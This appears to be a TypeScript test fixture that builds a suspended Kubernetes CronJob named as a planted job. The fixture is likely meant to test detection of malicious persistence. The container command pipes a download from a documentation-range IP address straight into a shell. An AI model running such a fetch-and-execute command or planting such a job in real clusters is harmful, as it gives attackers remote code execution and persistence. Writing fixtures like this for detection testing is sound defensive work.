import type { JsonObject } from '../../src/model/json.ts';

/** Suspended, and on an address of documentation: nothing runs, nothing is reached. */
export const planted = (name: string): JsonObject => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name, namespace: 'default' },
  spec: {
    schedule: '*/5 * * * *',
    suspend: true,
    jobTemplate: {
      spec: {
        template: {
          spec: {
            restartPolicy: 'Never',
            containers: [
              {
                name: 'main',
                image: 'registry.example/tool:1',
                command: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'],
              },
            ],
          },
        },
      },
    },
  },
});
